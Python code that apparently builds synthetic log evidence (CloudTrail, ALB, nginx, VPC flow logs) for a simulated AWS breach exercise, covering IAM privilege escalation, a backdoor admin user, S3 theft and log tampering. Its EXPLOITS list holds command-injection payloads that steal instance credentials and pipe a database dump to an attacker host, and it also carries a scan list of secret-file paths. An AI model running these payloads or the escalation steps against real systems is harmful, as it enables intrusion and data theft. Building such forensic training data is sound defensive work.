              err=("AccessDenied", f"User: {user_arn('batch-job')} is not authorized to perform: "
                                   f"iam:ListAttachedUserPolicies on resource: {user_arn('batch-job')} because no "
                                   f"identity-based policy allows the iam:ListAttachedUserPolicies action"))
    trail.assume_role(DEV_ASSUMED, bj, "developer-role", DEV_SESSION, DEV_KEY, command="sts.assume-role")

    dev = Who(role_identity("developer-role", DEV_SESSION, DEV_KEY, DEV_ASSUMED), ATTACKER_VPS_IP, ATTACKER_CLI_UA,
              cli="v2-old")
    dpol = policy_arn("developer-policy")
    for at, name, params, cmd in [
        (utc(2026, 3, 12, 9, 34, 1), "GetRole", {"roleName": "developer-role"}, "iam.get-role"),
        (utc(2026, 3, 12, 9, 34, 19), "ListAttachedRolePolicies", {"roleName": "developer-role"},
         "iam.list-attached-role-policies"),
        (utc(2026, 3, 12, 9, 34, 52), "GetPolicy", {"policyArn": dpol}, "iam.get-policy"),
        (utc(2026, 3, 12, 9, 35, 10), "ListPolicyVersions", {"policyArn": dpol}, "iam.list-policy-versions"),
        (utc(2026, 3, 12, 9, 35, 31), "GetPolicyVersion", {"policyArn": dpol, "versionId": "v1"}, "iam.get-policy-version"),
    ]:
        trail.add(at, dev, "iam.amazonaws.com", name, params=params, command=cmd)
    trail.add(ESCALATION_AT, dev, "iam.amazonaws.com", "CreatePolicyVersion", command="iam.create-policy-version",
              params={"policyArn": dpol, "policyDocument": compact(DEVELOPER_POLICY_V2), "setAsDefault": True},
              resp={"policyVersion": {"versionId": "v2", "isDefaultVersion": True,
                                      "createDate": java_date(ESCALATION_AT, comma=False)}})
    persist = [
        (USERS["svc-backup"], "CreateUser", {"userName": "svc-backup"}, "iam.create-user",
         {"user": {"path": "/", "userName": "svc-backup", "userId": USER_ID["svc-backup"], "arn": user_arn("svc-backup"),
                   "createDate": java_date(USERS["svc-backup"], comma=False)}}),
        (utc(2026, 3, 12, 9, 38, 20), "CreateAccessKey", {"userName": "svc-backup"}, "iam.create-access-key",
         {"accessKey": {"userName": "svc-backup", "accessKeyId": ACCESS_KEY["svc-backup"], "status": "Active",
                        "createDate": java_date(utc(2026, 3, 12, 9, 38, 20), comma=False)}}),
        (utc(2026, 3, 12, 9, 38, 31), "AttachUserPolicy",
         {"userName": "svc-backup", "policyArn": aws_policy_arn("AdministratorAccess")}, "iam.attach-user-policy", None),
        (utc(2026, 3, 12, 9, 38, 45), "CreateLoginProfile", {"userName": "svc-backup", "passwordResetRequired": False},
         "iam.create-login-profile",
         {"loginProfile": {"userName": "svc-backup", "createDate": java_date(utc(2026, 3, 12, 9, 38, 45), comma=False),
                           "passwordResetRequired": False}}),
    ]
    for at, name, params, cmd, resp in persist:
        trail.add(at, dev, "iam.amazonaws.com", name, params=params, resp=resp, command=cmd)

    # AWS Config notices the changes
    for at, name, params in [
        (utc(2026, 3, 12, 9, 39, 40), "GetUser", {"userName": "svc-backup"}),
        (utc(2026, 3, 12, 9, 39, 41), "ListAttachedUserPolicies", {"userName": "svc-backup"}),
        (utc(2026, 3, 12, 9, 39, 43), "GetPolicy", {"policyArn": dpol}),
        (utc(2026, 3, 12, 9, 39, 44), "GetPolicyVersion", {"policyArn": dpol, "versionId": "v2"}),
    ]:
        trail.add(at, config_who(at), "iam.amazonaws.com", name, params=params)

    # exfiltration with the new administrator
    svc = Who(iam_user_identity("svc-backup", ACCESS_KEY["svc-backup"]), ATTACKER_VPS_IP, ATTACKER_CLI_UA, cli="v2-old")
    trail.add(utc(2026, 3, 12, 9, 41, 12), svc, "sts.amazonaws.com", "GetCallerIdentity", command="sts.get-caller-identity")
    trail.add(utc(2026, 3, 12, 9, 41, 40), svc, "s3.amazonaws.com", "ListBuckets", command="s3.ls",
              params={"Host": f"s3.{REGION}.amazonaws.com"})
    trail.s3_list(utc(2026, 3, 12, 9, 42, 5), svc, "", 41_233, command="s3.sync")
    t = utc(2026, 3, 12, 9, 42, 30)
    for key in CUSTOMER_OBJECTS:
        size = rng.randrange(4_800_000, 7_400_000) if key.startswith("customers/") else rng.randrange(40_000_000, 95_000_000)
        trail.s3_object(t, svc, "GetObject", key, size, command="s3.sync")
        t += rng.seconds(3.0, 9.5) if key.startswith("customers/") else rng.seconds(12.0, 24.0)
    assert t < utc(2026, 3, 12, 10, 5, 0)

    # covering tracks
    trail.add(utc(2026, 3, 12, 10, 11, 2), dev, "guardduty.amazonaws.com", "ListDetectors", command="guardduty.list-detectors",
              resp=None)
    trail.add(utc(2026, 3, 12, 10, 12, 30), dev, "guardduty.amazonaws.com", "DeleteDetector",
              params={"detectorId": DETECTOR_ID}, command="guardduty.delete-detector",
              err=("AccessDeniedException",
                   f"User: {dev.identity['arn']} is not authorized to perform: guardduty:DeleteDetector on resource: "
                   f"{DETECTOR_ARN} with an explicit deny in a service control policy"))
    trail.add(utc(2026, 3, 12, 10, 12, 51), dev, "cloudtrail.amazonaws.com", "DescribeTrails",
              params={"trailNameList": [], "includeShadowTrails": True}, command="cloudtrail.describe-trails")
    trail.add(STOP_LOGGING_AT, dev, "cloudtrail.amazonaws.com", "StopLogging", params={"name": TRAIL},
              command="cloudtrail.stop-logging", readonly=False)

    # ---- the response, the next morning ------------------------------------------------------
    a2 = utc(2026, 3, 13, 9, 2, 15)
    trail.console_login(a2, iam_user_identity("alice"), ALICE_IP, f"arn:aws:iam::{ACCOUNT}:mfa/alice")
    al = alice_console(a2)
    trail.add(START_LOGGING_AT, al, "cloudtrail.amazonaws.com", "StartLogging", params={"name": TRAIL_ARN}, readonly=False)
    for sec, src, name, params in [
        (21, "cloudtrail.amazonaws.com", "GetTrailStatus", {"name": TRAIL_ARN}),
        (95, "cloudtrail.amazonaws.com", "LookupEvents",
         {"lookupAttributes": [{"attributeKey": "EventName", "attributeValue": "StopLogging"}], "maxResults": 50}),
        (160, "iam.amazonaws.com", "ListUsers", {"maxItems": 1000}),
        (171, "iam.amazonaws.com", "GetUser", {"userName": "svc-backup"}),
        (188, "iam.amazonaws.com", "ListAccessKeys", {"userName": "svc-backup"}),
        (193, "iam.amazonaws.com", "ListAttachedUserPolicies", {"userName": "svc-backup"}),
        (240, "iam.amazonaws.com", "ListPolicyVersions", {"policyArn": dpol}),
        (251, "iam.amazonaws.com", "GetPolicyVersion", {"policyArn": dpol, "versionId": "v2"}),
        (400, "guardduty.amazonaws.com", "ListFindings", {"detectorId": DETECTOR_ID, "maxResults": 50}),
        (408, "guardduty.amazonaws.com", "GetFindings", {"detectorId": DETECTOR_ID,
                                                         "findingIds": [rng.hex(32) for _ in range(3)]}),
    ]:
        trail.add(START_LOGGING_AT + dt.timedelta(seconds=sec), al, src, name, params=params)

    trail.console_login(ROOT_LOGIN_AT, {"type": "Root", "principalId": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:root",
                                        "accountId": ACCOUNT, "accessKeyId": ""}, ROOT_LOGIN_IP,
                        f"arn:aws:iam::{ACCOUNT}:mfa/root-account-mfa-device")
    root_key = access_key_id("ASIA", "root-console-" + ROOT_LOGIN_AT.isoformat())
    root = Who({"type": "Root", "principalId": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT,
                "accessKeyId": root_key, "sessionContext": {"attributes": {"creationDate": ct_ts(ROOT_LOGIN_AT),
                                                                           "mfaAuthenticated": "true"}}},
               ROOT_LOGIN_IP, BROWSER_UA, console=True)
    trail.add(ROOT_LOGIN_AT + dt.timedelta(seconds=101), root, "account.amazonaws.com", "GetAlternateContact",
              params={"alternateContactType": "SECURITY"}, err=("ResourceNotFoundException", "No contact of the inputted alternate contact type found."))
    trail.add(ROOT_LOGIN_AT + dt.timedelta(seconds=148), root, "account.amazonaws.com", "PutAlternateContact",
              params={"alternateContactType": "SECURITY", "emailAddress": "HIDDEN_DUE_TO_SECURITY_REASONS",
                      "name": "HIDDEN_DUE_TO_SECURITY_REASONS", "phoneNumber": "HIDDEN_DUE_TO_SECURITY_REASONS",
                      "title": "HIDDEN_DUE_TO_SECURITY_REASONS"}, readonly=False)


def deliver_cloudtrail(tree: Tree, trail: Trail) -> list[tuple[str, dict, bytes]]:
    """Keep what the trail recorded (nothing between StopLogging and StartLogging), sort, and write
    one file per five minutes as CloudTrail delivers them. Returns (path, stats, body) per file."""
    rng = Rand("cloudtrail-files")
    kept = [r for r in trail.records
            if CT_START <= dt.datetime.strptime(r["eventTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC) < CT_END
            and not (ct_ts(STOP_LOGGING_AT) < r["eventTime"] < ct_ts(START_LOGGING_AT))]
    kept.sort(key=lambda r: r["eventTime"])  # stable: calls in the same second keep their order
    windows: dict[dt.datetime, list[dict]] = {}
    for r in kept:
        t = dt.datetime.strptime(r["eventTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
        windows.setdefault(five_min_window(t), []).append(r)
    files = []
    for w in sorted(windows):
        recs = windows[w]
        parts = [recs] if len(recs) <= 40 else [recs[0::2], recs[1::2]]  # busy windows arrive in two files
        stamp = w + dt.timedelta(minutes=5)
        for part in parts:
            name = f"{ACCOUNT}_CloudTrail_{REGION}_{stamp:%Y%m%dT%H%MZ}_{rng.chars(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}.json.gz"
            rel = f"AWSLogs/{ACCOUNT}/CloudTrail/{REGION}/{stamp:%Y/%m/%d}/{name}"
            body = json.dumps({"Records": part}, separators=(",", ":")).encode()
            tree.gz(f"logs/cloudtrail/{rel}", body)
            files.append((rel, {"oldest": part[0]["eventTime"], "newest": part[-1]["eventTime"], "stamp": stamp}, body))
    return files


def cloudtrail_digest(tree: Tree, files: list[tuple[str, dict, bytes]]) -> None:
    """The digest delivered after StopLogging: the log files delivered in the hour before it."""
    rng = Rand("cloudtrail-digest")
    end = utc(2026, 3, 12, 10, 20, 31)
    start = end - dt.timedelta(hours=1)
    covered = [(rel, st, body) for rel, st, body in files if start < st["stamp"] <= end]
    obj = lambda t: (f"AWSLogs/{ACCOUNT}/CloudTrail-Digest/{REGION}/{t:%Y/%m/%d}/"
                     f"{ACCOUNT}_CloudTrail-Digest_{REGION}_{TRAIL}_{REGION}_{t:%Y%m%dT%H%M%SZ}.json.gz")
    digest_doc = {
        "awsAccountId": ACCOUNT,
        "digestStartTime": ct_ts(start),
        "digestEndTime": ct_ts(end),
        "digestS3Bucket": TRAIL_BUCKET,
        "digestS3Object": obj(end),
        "digestPublicKeyFingerprint": rng.hex(32),
        "digestSignatureAlgorithm": "SHA256withRSA",
        "newestEventTime": max(st["newest"] for _, st, _ in covered),
        "oldestEventTime": min(st["oldest"] for _, st, _ in covered),
        "previousDigestS3Bucket": TRAIL_BUCKET,
        "previousDigestS3Object": obj(start),
        "previousDigestHashValue": rng.hex(64),
        "previousDigestHashAlgorithm": "SHA-256",
        "previousDigestSignature": rng.hex(512),
        "logFiles": [{"s3Bucket": TRAIL_BUCKET, "s3Object": rel, "hashValue": hashlib.sha256(body).hexdigest(),
                      "hashAlgorithm": "SHA-256", "newestEventTime": st["newest"], "oldestEventTime": st["oldest"]}
                     for rel, st, body in covered],
    }
    tree.gz(f"logs/cloudtrail/{obj(end)}", json.dumps(digest_doc, separators=(",", ":")).encode())


# ---------------------------------------------------------------------------------------------
# Web traffic: ALB access logs and the nginx logs behind them
# ---------------------------------------------------------------------------------------------
BROWSERS = [
    BROWSER_UA,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:136.0) Gecko/20100101 Firefox/136.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
]
SCANNER_UA = "python-requests/2.31.0"
EXPLOIT_UA = "curl/8.5.0"
VULN = "/status/check.php"
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
SCAN_PATHS = [
    "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.htaccess", "/.aws/credentials",
    "/admin", "/admin/", "/admin/login.php", "/administrator/", "/backup/", "/backup.zip", "/backup.sql", "/db.sql",
    "/dump.sql", "/config.php", "/config.php.bak", "/config/", "/configuration.php", "/wp-login.php", "/wp-admin/",
    "/wp-config.php.bak", "/xmlrpc.php", "/phpinfo.php", "/info.php", "/test.php", "/php.ini", "/phpmyadmin/",
    "/pma/", "/mysql/", "/adminer.php", "/server-status", "/server-info", "/cgi-bin/", "/shell.php", "/cmd.php",
    "/upload.php", "/uploads/", "/files/", "/logs/", "/log/", "/tmp/", "/debug/", "/debug.php", "/console",
    "/api/", "/api/v1/", "/api/v2/", "/api/swagger.json", "/swagger-ui.html", "/actuator/health", "/actuator/env",
    "/health", "/status", "/status/", VULN, "/status/index.php", "/monitor/", "/metrics", "/robots.txt",
    "/sitemap.xml", "/crossdomain.xml", "/login", "/login.php", "/register.php", "/install.php", "/setup.php",
    "/vendor/", "/vendor/composer/installed.json", "/composer.json", "/composer.lock", "/package.json",
    "/storage/logs/laravel.log", "/.well-known/security.txt", "/web.config", "/index.php.bak", "/index.php~",
    "/old/", "/new/", "/dev/", "/staging/", "/test/", "/tools/", "/tools/ping.php", "/utils/", "/includes/",
    "/inc/config.inc", "/lib/", "/scripts/", "/static/", "/assets/", "/images/", "/cache/", "/export/",
    "/exports/", "/reports/", "/cron.php", "/jobs/", "/batch/", "/queue/", "/s3/", "/aws/", "/.aws/config",
    "/.ssh/id_rsa", "/id_rsa", "/.bash_history", "/etc/passwd", "/../../../../etc/passwd", "/server.key",
    "/private.key", "/key.pem", "/cert.pem", "/secrets.json", "/credentials.json", "/settings.json", "/app.ini",
    "/config.ini", "/config.yml", "/docker-compose.yml", "/Dockerfile", "/.dockerenv", "/nginx.conf",
]
EXPLOITS = [  # (time the ALB received it, host= payload, response body bytes)
    (utc(2026, 3, 12, 9, 7, 42, 118402), "127.0.0.1", 612),
    (utc(2026, 3, 12, 9, 7, 58, 904117), "127.0.0.1;id", 287),
    (utc(2026, 3, 12, 9, 8, 15, 233590), "127.0.0.1;curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", 212),
    (utc(2026, 3, 12, 9, 8, 31, 412774), "127.0.0.1;curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-server-role", 1486),
    (utc(2026, 3, 12, 9, 27, 40, 55120), "127.0.0.1;grep -rn AKIA /var/www/", 2214),
    (utc(2026, 3, 12, 9, 28, 5, 773004), "127.0.0.1;cat /var/www/html/config/batch.ini", 1143),
    (utc(2026, 3, 12, 10, 5, 8, 310266),
     f"127.0.0.1;nohup sh -c 'mysqldump -h {RDS_ENDPOINT} -u shop_app -pXk9vR2pLq7 "
     f"--single-transaction shop | gzip | curl -sk -T - https://{ATTACKER_VPS_IP}/u' >/dev/null 2>&1 &", 241),
]
DUMP_START = utc(2026, 3, 12, 10, 5, 10)
DUMP_END = utc(2026, 3, 12, 10, 9, 41)


def session_rate(t: dt.datetime) -> float:
    h = t.hour
    if 13 <= h <= 23:
        return 11.0
    if 0 <= h <= 4:
        return 6.0
    return 2.5


def node_for(ip: str) -> int:
    return sum(int(x) for x in ip.split(".")) % 2


def web_requests() -> list[dict]:
    rng = Rand("web")
    reqs: list[dict] = []

    def req(t: dt.datetime, client: str, port: int, scheme: str, method: str, path: str, ua: str, *, target: str | None,
            status: int, body: int, recv: int, tpt: float, host: str = SITE, referer: str = "-") -> dict:
        rpt = rng.randrange(0, 2) / 1000
        r = {"t0": t, "client": client, "port": port, "node": node_for(client), "scheme": scheme, "method": method,
             "path": path, "ua": ua, "target": target, "status": status, "body": body, "recv": recv,
             "rpt": rpt, "tpt": tpt, "rspt": 0.0, "host": host, "referer": referer}
        r["sent"] = body + (rng.randrange(240, 340) if status != 301 else 0)
        if status == 301:
            r["sent"] = 366 + len(path)
        done = t + dt.timedelta(seconds=rpt + max(tpt, 0) + 0.0004)
        r["time"] = done + dt.timedelta(microseconds=rng.randrange(20, 400))
        reqs.append(r)
        return r

    # shoppers
    t = NET_START
    while True:
        t += rng.exp_gap(session_rate(t))
        if t >= NET_END - dt.timedelta(minutes=10):
            break
        ip, port, ua = rng.public_ip(), rng.randrange(1024, 65536), rng.choice(BROWSERS)
        at = t
        if rng.random() < 0.15:
            req(at, ip, port, "http", "GET", "/", ua, target=None, status=301, body=0, recv=rng.randrange(180, 420), tpt=-1)
            at += rng.seconds(0.08, 0.4)
            port = rng.randrange(1024, 65536)
        returning = rng.random() < 0.4
        pages = ["/"] + [rng.choice(["/products?category=kitchen", "/products?category=garden", "/products?category=lighting",
                                     f"/products/{rng.randrange(100, 999)}", f"/products/{rng.randrange(100, 999)}",
                                     "/search?q=" + rng.choice(["lamp", "chair", "mug", "planter", "rug"])])
                         for _ in range(rng.randrange(0, 5))]
        if rng.random() < 0.25:
            pages += ["/cart", "/checkout"]
        prev = "-"
        for i, page in enumerate(pages):
            tgt = rng.choice(["web-1", "web-2"])
            req(at, ip, port, "https", "GET", page, ua, target=tgt, status=200, body=rng.randrange(11_000, 42_000),
                recv=rng.randrange(420, 980), tpt=rng.randrange(8, 340) / 1000, referer=prev)
            here = f"https://{SITE}{page}"
            if i == 0:
                for asset in ("/static/css/app.4f9c2b.css", "/static/js/app.8d1e4a.js"):
                    at += rng.seconds(0.03, 0.25)
                    st = 304 if returning else 200
                    req(at, ip, port, "https", "GET", asset, ua, target=rng.choice(["web-1", "web-2"]), status=st,
                        body=0 if st == 304 else rng.randrange(30_000, 120_000), recv=rng.randrange(420, 900),
                        tpt=rng.randrange(1, 4) / 1000, referer=here)
            if page.startswith("/products/"):
                at += rng.seconds(0.05, 0.3)
                req(at, ip, port, "https", "GET", f"/images/products/{page.rsplit('/', 1)[1]}.webp", ua,
                    target=rng.choice(["web-1", "web-2"]), status=200, body=rng.randrange(30_000, 95_000),
                    recv=rng.randrange(420, 900), tpt=rng.randrange(2, 30) / 1000, referer=here)
                if rng.random() < 0.3:
                    at += rng.seconds(2.0, 15.0)
                    req(at, ip, port, "https", "POST", "/api/cart", ua, target=rng.choice(["web-1", "web-2"]), status=200,
                        body=rng.randrange(300, 700), recv=rng.randrange(700, 1300), tpt=rng.randrange(12, 90) / 1000,
                        referer=here)
            prev = here
            at += rng.seconds(3.0, 45.0)

    # the scan of the web site
    t = utc(2026, 3, 12, 9, 2, 11, 402113)
    port = 41822
    for i, path in enumerate(SCAN_PATHS):
        if i % 25 == 0:
            port += rng.randrange(3, 40)
        if path in ("/health", "/robots.txt", "/static/", "/images/"):
            status, body = (200, 2) if path == "/health" else ((200, 68) if path == "/robots.txt" else (403, 153))
        elif path.startswith("/.") or "/." in path:
            status, body = 403, 153
        elif path in ("/status/", VULN):
            status, body = 200, (612 if path == VULN else 396)
        else:
            status, body = 404, 153
        req(t, ATTACKER_WEB_IP, port, "https", "GET", path, SCANNER_UA, target=rng.choice(["web-1", "web-2"]),
            status=status, body=body, recv=rng.randrange(190, 260), tpt=rng.randrange(1, 6) / 1000, host=ALB_DNS)
        t += rng.seconds(0.9, 3.2)
    assert t < EXPLOITS[0][0]

    # exploitation: command injection in the diagnostics page, always answered by web-1
    port = 52960
    for at, payload, body in EXPLOITS:
        port += rng.randrange(1, 30)
        path = f"{VULN}?host={urllib.parse.quote(payload, safe='')}"
        req(at, ATTACKER_WEB_IP, port, "https", "GET", path, EXPLOIT_UA, target="web-1", status=200, body=body,
            recv=len(path) + 190, tpt=rng.randrange(180, 1900) / 1000 if "curl" in payload else 0.031, host=ALB_DNS)
    reqs.sort(key=lambda r: r["t0"])
    return reqs


def alb_line(r: dict, rng: Rand) -> str:
    def us(t: dt.datetime) -> str:
        return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    q = lambda s: '"' + s + '"'
    tls = r["scheme"] == "https"
    forwarded = r["target"] is not None
    target = f"{INSTANCES[r['target']]['ip']}:80" if forwarded else "-"
    port = 443 if tls else 80
    request = f"{r['method']} {r['scheme']}://{r['host']}:{port}{r['path']} HTTP/1.1"
    trace = f"Root=1-{epoch(r['t0']):08x}-{rng.hex(24)}"
    fields = [
        r["scheme"], us(r["time"]), ALB_RESOURCE, f"{r['client']}:{r['port']}", target,
        f"{r['rpt']:.3f}", f"{r['tpt']:.3f}" if forwarded else "0.000", f"{r['rspt']:.3f}" if forwarded else "0.000",
        str(r["status"]), str(r["status"]) if forwarded else "-", str(r["recv"]), str(r["sent"]),
        q(request), q(r["ua"]),
        "TLS_AES_128_GCM_SHA256" if tls else "-", "TLSv1.3" if tls else "-",
        TG_ARN if forwarded else "-", q(trace), q(r["host"] if tls else "-"), q(CERT_ARN if tls else "-"), "0",
        us(r["t0"]), q("forward" if forwarded else "redirect"),
        q("-" if forwarded else f"https://{r['host']}:443{r['path']}"), q("-"),
        q(target), q(str(r["status"]) if forwarded else "-"), q("-"), q("-"), f"TID_{rng.hex(32)}",
        q("-"), q("-"), q("-"),
    ]
    return " ".join(fields)


def nginx_line(r: dict) -> str:
    t = r["time"]
    stamp = f"{t.day:02d}/{MONTHS[t.month - 1]}/{t.year}:{t:%H:%M:%S} +0000"
    return (f'{ALB_NODES[r["node"]][1]} - - [{stamp}] "{r["method"]} {r["path"]} HTTP/1.1" {r["status"]} {r["body"]} '
            f'"{r["referer"]}" "{r["ua"]}"')


def write_web_logs(tree: Tree, reqs: list[dict]) -> None:
    rng = Rand("alb-files")
    per_file: dict[tuple[int, dt.datetime], list[dict]] = {}
    for r in reqs:
        per_file.setdefault((r["node"], five_min_window(r["time"])), []).append(r)
    for (node, w) in sorted(per_file):
        rows = sorted(per_file[(node, w)], key=lambda r: r["time"])
        stamp = w + dt.timedelta(minutes=5)
        name = (f"{ACCOUNT}_elasticloadbalancing_{REGION}_app.{ALB_NAME}.{ALB_ID}_{stamp:%Y%m%dT%H%MZ}_"
                f"{ALB_NODES[node][2]}_{rng.chars(8, 'abcdefghijklmnopqrstuvwxyz0123456789')}.log.gz")
        rel = f"logs/alb/AWSLogs/{ACCOUNT}/elasticloadbalancing/{REGION}/{stamp:%Y/%m/%d}/{name}"
        tree.gz(rel, ("".join(alb_line(r, rng) + "\n" for r in rows)).encode())
    for inst in ("web-1", "web-2"):
        rows = sorted((r for r in reqs if r["target"] == inst), key=lambda r: r["time"])
        tree.text(f"logs/nginx/{inst}/access.log", "".join(nginx_line(r) + "\n" for r in rows))


# ---------------------------------------------------------------------------------------------
# VPC Flow Logs (version 2, default format)
# ---------------------------------------------------------------------------------------------
SECRETS_ENDPOINT_IP = "3.236.94.120"  # secretsmanager.us-east-1.amazonaws.com, reached through the NAT gateway
S3_ENDPOINT_IPS = ["52.217.140.18", "52.216.209.66", "54.231.129.20", "16.182.73.146"]
FLOW_HEADER = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"


def flow_records(reqs: list[dict], trail: Trail) -> list[tuple]:
    """(interface key, srcaddr, dstaddr, srcport, dstport, protocol, packets, bytes, start, end, action) or
    (interface key, None, ..., start, end, 'NODATA'/'SKIPDATA')."""
    rng = Rand("flow")
    out: list[tuple] = []

    def pk(nbytes: int, mtu: int = 1100) -> int:
        # a function of the bytes, so the same flow counts the same packets on every interface it crosses
        return max(1, nbytes // mtu + 1 + nbytes % 3)

    def both(eni_keys: tuple[str, ...], src: str, dst: str, sport: int, dport: int, fwd: int, back: int,
             start: int, end: int, action: str = "ACCEPT", proto: int = 6) -> None:
        for k in eni_keys:
            out.append((k, src, dst, sport, dport, proto, pk(fwd), fwd, start, end, action))
            if back:
                out.append((k, dst, src, dport, sport, proto, pk(back), back, start, end, action))

    slot = NET_START
    eni_of_inst = {"web-1": "web-1", "web-2": "web-2"}
    alb_eni = ["alb-a", "alb-b"]
    lb_ports = {(n, i): rng.randrange(10_000, 60_000) for n in range(2) for i in INSTANCES}
    db_ports = {i: rng.randrange(32_768, 60_999) for i in ("web-1", "web-2")}
    while slot < NET_END:
        s0, s1 = epoch(slot), epoch(slot) + 600
        in_slot = [r for r in reqs if slot <= r["t0"] < slot + dt.timedelta(minutes=10)]
        # clients <-> ALB nodes
        conns: dict[tuple, list[dict]] = {}
        for r in in_slot:
            conns.setdefault((r["client"], r["port"], r["node"], r["scheme"]), []).append(r)
        for (client, port, node, scheme), rs in conns.items():
            up = sum(r["recv"] for r in rs) + (4_300 if scheme == "https" else 0)
            down = sum(r["sent"] for r in rs) + (5_100 if scheme == "https" else 0)
            a, b = epoch(rs[0]["t0"]), max(epoch(rs[-1]["time"]) + 1, epoch(rs[0]["t0"]) + 1)
            both((alb_eni[node],), client, ALB_NODES[node][1], port, 443 if scheme == "https" else 80, up, down,
                 a - a % 60, min(s1, b + 60 - b % 60))
        # ALB nodes <-> targets: health checks every 30 s plus forwarded requests
        for node in range(2):
            for inst in ("web-1", "web-2"):
                rs = [r for r in in_slot if r["node"] == node and r["target"] == inst]
                up = 20 * 132 + sum(r["recv"] + 60 for r in rs)
                down = 20 * 171 + sum(r["body"] + 230 for r in rs)
                if slot.minute == 0:
                    lb_ports[(node, inst)] = rng.randrange(10_000, 60_000)
                both((alb_eni[node], eni_of_inst[inst]), ALB_NODES[node][1], INSTANCES[inst]["ip"], lb_ports[(node, inst)],
                     80, up, down, s0 + rng.randrange(0, 9), s1 - rng.randrange(1, 9))
        # web servers <-> database
        for inst in ("web-1", "web-2"):
            n = sum(1 for r in in_slot if r["target"] == inst and r["path"].split("?")[0] not in
                    ("/static/css/app.4f9c2b.css", "/static/js/app.8d1e4a.js"))
            both((eni_of_inst[inst], "rds"), INSTANCES[inst]["ip"], RDS_IP, db_ports[inst], 3306,
                 9_000 + n * 1_400, 14_000 + n * 3_900, s0 + rng.randrange(0, 9), s1 - rng.randrange(1, 9))
        # the bastion is on the internet with SSH open: background scanning and password guessing
        for _ in range(rng.randrange(0, 4)):
            a = s0 + rng.randrange(0, 590)
            both(("bastion",), rng.public_ip(), INSTANCES["bastion"]["ip"], rng.randrange(1024, 65536),
                 rng.choice([23, 25, 80, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200]), 44, 0,
                 a, a + rng.randrange(0, 3), "REJECT")
        if rng.random() < 0.12:
            a = s0 + rng.randrange(0, 500)
            both(("bastion",), rng.public_ip(), INSTANCES["bastion"]["ip"], rng.randrange(30_000, 65_000), 22,
                 rng.randrange(2_400, 9_000), rng.randrange(3_000, 7_000), a, a + rng.randrange(5, 80))
        slot += dt.timedelta(minutes=10)

    # calls to AWS APIs: Secrets Manager through the NAT gateway, S3 through the gateway endpoint
    for r in trail.records:
        t = dt.datetime.strptime(r["eventTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
        if not NET_START <= t < NET_END:
            continue
        ui = r["userIdentity"]
        a = epoch(t)
        if r["eventSource"] == "secretsmanager.amazonaws.com" and r["sourceIPAddress"] == EIP["nat"][0]:
            inst = "web-1" if ui["principalId"].endswith(INSTANCE_ID["web-1"]) else "web-2"
            sport = rng.randrange(32_768, 61_000)
            src = INSTANCES[inst]["ip"]
            up, down = rng.randrange(2_800, 3_600), rng.randrange(6_100, 7_400)
            both((eni_of_inst[inst],), src, SECRETS_ENDPOINT_IP, sport, 443, up, down, a, a + 1)
            for rec in ((src, SECRETS_ENDPOINT_IP, sport, 443, up), (NAT_PRIVATE_IP, SECRETS_ENDPOINT_IP, sport, 443, up),
                        (SECRETS_ENDPOINT_IP, NAT_PRIVATE_IP, 443, sport, down), (SECRETS_ENDPOINT_IP, src, 443, sport, down)):
                out.append(("nat", *rec[:4], 6, pk(rec[4]), rec[4], a, a + 1, "ACCEPT"))
        elif r["eventSource"] == "s3.amazonaws.com" and r.get("vpcEndpointId") == VPCE_S3:
            dst = S3_ENDPOINT_IPS[int(r["eventID"][:2], 16) % len(S3_ENDPOINT_IPS)]
            down = r["additionalEventData"]["bytesTransferredOut"] + 900
            both(("web-1",), INSTANCES["web-1"]["ip"], dst, rng.randrange(32_768, 61_000), 443, 1_900, down, a, a + 1)

    # the attacker's port scan of the bastion: one SYN per port, only SSH answers
    t0 = epoch(utc(2026, 3, 12, 8, 58, 40))
    ports = sorted(set([21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049, 2375, 3000,
                        3306, 3389, 5000, 5432, 5601, 5900, 5985, 6379, 6443, 8000, 8080, 8081, 8443, 8888, 9000, 9090,
                        9200, 9300, 11211, 27017] + [rng.randrange(1, 10_000) for _ in range(260)]))
    for i, p in enumerate(ports):
        a = t0 + i * 195 // len(ports)
        if p == 22:
            both(("bastion",), ATTACKER_WEB_IP, INSTANCES["bastion"]["ip"], 53211, 22, 44, 44, a, a + 1)
        else:
            out.append(("bastion", ATTACKER_WEB_IP, INSTANCES["bastion"]["ip"], 53211, p, 6, 1, 44, a, a + 1, "REJECT"))

    # the database dump, streamed to the attacker's server through the NAT gateway
    a, b = epoch(DUMP_START), epoch(DUMP_END)
    web1 = INSTANCES["web-1"]["ip"]
    both(("web-1", "rds"), web1, RDS_IP, 51844, 3306, 298_112, 187_301_442, a, b)
    up, down = 43_120_775, 790_211
    both(("web-1",), web1, ATTACKER_VPS_IP, 40312, 443, up, down, a + 2, b)
